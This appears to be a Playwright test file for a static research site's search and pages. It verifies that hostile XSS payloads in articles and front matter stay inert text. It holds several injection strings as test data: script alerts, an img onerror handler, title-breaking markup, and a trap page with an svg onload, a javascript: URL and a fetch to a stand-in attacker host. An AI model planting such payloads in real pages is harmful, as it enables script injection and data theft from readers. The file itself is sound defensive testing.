"""No script from an article or a hand edit runs in a reader's browser: proven in Chromium.

One site is built from hostile seeds and hostile front-matter edits (tests/browser/hostile.py);
a reader searches it for the names in it, opens every result, and visits every page. Any dialog,
element with an event handler, script URL or request to another host fails the test. The last
tests show that the detector itself fails on a page with a handler in it.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.browser.hostile import MARK, NAMES, hostile_site, live_markup

SEARCH_INPUT = "input[data-md-component=search-query]"
RESULT_LINKS = "li.md-search-result__item a.md-search-result__link"
RESULT_META = ".md-search-result__meta"


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return hostile_site(tmp_path_factory.mktemp("browser-hostile"))


@pytest.fixture(scope="module")
def site_url(built: Path, serve: object) -> str:
    return serve(built)  # type: ignore[operator, no-any-return]


def search(page: object, site_url: str, query: str, start: str = "") -> list[str]:
    """Type `query` into the header's search box; the results' URLs once the search has answered."""
    page.goto(site_url + start)  # type: ignore[attr-defined]
    page.click(SEARCH_INPUT)  # type: ignore[attr-defined]
    page.keyboard.type(query)  # type: ignore[attr-defined]  # the box searches on key events
    # Pagefind loads its index chunks on demand: the count line changes once it has answered,
    # after the list is drawn.
    page.wait_for_function(  # type: ignore[attr-defined]
        "([s, q]) => /matching/i.test(document.querySelector(s)?.textContent || '')"
        " && document.querySelector('[data-site-search-result]')?.dataset.query === q",
        arg=[RESULT_META, query])
    return page.eval_on_selector_all(RESULT_LINKS, "links => links.map(a => a.href)")  # type: ignore[attr-defined]


def test_search_results_run_no_script(page: object, site_url: str) -> None:
    """Each name typed into the search box: the results drawn, then each result opened."""
    opened: dict[str, str] = {}
    for query in NAMES:
        found = search(page, site_url, query)
        assert found, f"no search results for {query!r}"
        assert not live_markup(page), (query, live_markup(page))
        opened.update((url.split("?")[0], url) for url in found)  # each page once, highlighted
    for url in sorted(opened.values()):
        page.goto(url)  # type: ignore[attr-defined]  # the words found are highlighted in the page
        assert not live_markup(page), (url, live_markup(page))
    page.watched.assert_clean()  # type: ignore[attr-defined]


def test_every_page_of_the_site_is_inert(page: object, site_url: str, built: Path) -> None:
    pages = sorted(p.relative_to(built).as_posix() for p in built.rglob("*.html"))
    assert len(pages) > 20
    pages.remove("404.html")
    for path in pages:
        page.goto(site_url + path.removesuffix("index.html"))  # type: ignore[attr-defined]
        assert not live_markup(page), (path, live_markup(page))
    page.watched.assert_clean()  # type: ignore[attr-defined]
    # Last, and without the console check: opened at its own URL rather than in place of a
    # missing page, the theme's 404 page asks for its assets from the server's root.
    page.goto(site_url + "404.html")  # type: ignore[attr-defined]
    assert not live_markup(page) and not page.watched.dialogs  # type: ignore[attr-defined]
    assert not page.watched.outside_requests  # type: ignore[attr-defined]


def test_hostile_text_shows_as_text(page: object, site_url: str) -> None:
    """Inert is not enough: the reader sees the payload as the text it is."""
    page.goto(site_url + "articles/h01_markup/")  # type: ignore[attr-defined]
    assert f"alert('{MARK}20')" in page.title()  # type: ignore[attr-defined]
    assert f"<script>alert('{MARK}20')</script>" in page.inner_text("h1")  # type: ignore[attr-defined]
    assert f"<img src=x onerror=alert('{MARK}1')>" in page.inner_text(".article-text")  # type: ignore[attr-defined]
    page.watched.assert_clean()  # type: ignore[attr-defined]


TRAP = """<!doctype html><html><head><title>trap</title></head><body>
<p>Text</p><svg onload="alert('trap')"></svg>
<a href=" JaVaScRiPt:alert(1)">link</a>
<script>fetch('http://evil.example/' + 'x')</script>
</body></html>"""


def test_the_detectors_catch_a_planted_handler(page: object, serve: object, tmp_path: Path) -> None:
    """A detector that cannot fail proves nothing: on a page with a planted handler, a script URL
    and an outside request, each check fires."""
    (tmp_path / "trap.html").write_text(TRAP, encoding="utf-8")
    page.goto(serve(tmp_path) + "trap.html")  # type: ignore[attr-defined, operator]
    page.wait_for_load_state("load")  # type: ignore[attr-defined]
    found = live_markup(page)
    assert any("onload=" in f for f in found) and any("href=" in f for f in found), found
    assert page.watched.dialogs == ["alert: trap"]  # type: ignore[attr-defined]
    assert page.watched.outside_requests == ["http://evil.example/x"]  # type: ignore[attr-defined]
    with pytest.raises(AssertionError, match="a script from content ran"):
        page.watched.assert_clean()  # type: ignore[attr-defined]


def test_a_search_from_a_deep_page_under_the_sub_path_finds_the_minister(page: object, site_url: str) -> None:
    """Pagefind's index is found from any depth under /research-site/, and a minister's own page
    comes first for the minister's name; the result opens it."""
    found = search(page, site_url, "Lavrov", start="articles/h01_markup/")
    assert found[0] == site_url + "ministers/sergey-lavrov/", found
    assert all(url.startswith(site_url) for url in found), found
    page.click(RESULT_LINKS)  # type: ignore[attr-defined]
    page.wait_for_url(site_url + "ministers/sergey-lavrov/")  # type: ignore[attr-defined]
    assert page.inner_text("h1") == "Sergey Lavrov"  # type: ignore[attr-defined]
    page.watched.assert_clean()  # type: ignore[attr-defined]


def test_hostile_titles_and_excerpts_show_as_text_in_the_results(page: object, site_url: str) -> None:
    """A title and a lead full of tags reach the results as the text a reader typed, with the words
    found marked, and nothing else made into an element."""
    search(page, site_url, "Lavrov Wang")
    titles = page.eval_on_selector_all(  # type: ignore[attr-defined]
        RESULT_LINKS + " h1", "hs => hs.map(h => h.textContent)")
    assert f"</title><script>alert('{MARK}20')</script> Lavrov & Wang <img src=x onerror=alert(21)>" \
        in titles, titles
    assert f"&lt;/title&gt;&lt;script&gt;alert('{MARK}30')&lt;/script&gt; Lavrov and Qin Gang" in titles
    excerpts = page.eval_on_selector_all(  # type: ignore[attr-defined]
        RESULT_LINKS + " p", "ps => ps.map(p => p.textContent)")
    assert any(f"<img src=x onerror=alert('{MARK}1')>" in text for text in excerpts), excerpts
    tags = page.eval_on_selector_all(  # type: ignore[attr-defined]
        RESULT_LINKS + " p *", "es => [...new Set(es.map(e => e.tagName.toLowerCase()))]")
    assert tags == ["mark"], tags
    assert not live_markup(page), live_markup(page)
    page.watched.assert_clean()  # type: ignore[attr-defined]


def test_search_works_on_a_phone(page: object, site_url: str) -> None:
    """On a narrow screen the header's magnifier opens the search box, and the results show."""
    page.set_viewport_size({"width": 390, "height": 800})  # type: ignore[attr-defined]
    page.goto(site_url + "meetings/")  # type: ignore[attr-defined]
    page.click("label.md-header__button[for=__search]")  # type: ignore[attr-defined]
    page.wait_for_function(  # type: ignore[attr-defined]
        "s => document.activeElement === document.querySelector(s)", arg=SEARCH_INPUT)
    page.keyboard.type("Samarkand")  # type: ignore[attr-defined]  # the box has the focus
    page.wait_for_function(  # type: ignore[attr-defined]
        "q => document.querySelector('[data-site-search-result]')?.dataset.query === q", arg="Samarkand")
    first = page.locator(RESULT_LINKS).first  # type: ignore[attr-defined]
    assert first.is_visible()
    # The results slide in: under load the first box was read mid-slide, 0.14 px to the right.
    page.wait_for_function(  # type: ignore[attr-defined]
        """s => { const r = document.querySelector(s).getBoundingClientRect();
                  return r.left >= 0 && r.right <= 390; }""", arg=RESULT_LINKS, timeout=5000)
    box = first.bounding_box()
    assert box is not None and box["x"] >= 0 and box["x"] + box["width"] <= 390
    first.click()
    page.wait_for_url(site_url + "venues/samarkand/")  # type: ignore[attr-defined]
    page.watched.assert_clean()  # type: ignore[attr-defined]
